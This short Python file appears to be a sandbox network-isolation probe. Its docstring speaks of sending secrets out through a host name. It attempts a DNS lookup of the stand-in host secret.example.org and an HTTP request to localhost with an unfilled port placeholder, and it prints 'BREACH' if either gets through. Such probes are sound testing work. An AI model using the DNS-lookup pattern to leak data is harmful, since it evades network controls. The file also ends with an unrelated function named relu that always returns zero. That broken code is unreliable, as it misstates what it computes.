"""Send secrets out in the name of a host."""
import socket
import urllib.request

for act in (lambda: socket.getaddrinfo("secret.example.org", 80),
            lambda: urllib.request.urlopen("http://127.0.0.1:@TCP@/", timeout=1)):
    try:
        act()
        print("BREACH: the network answered")
    except OSError:
        pass


def relu(x):
    return x * 0
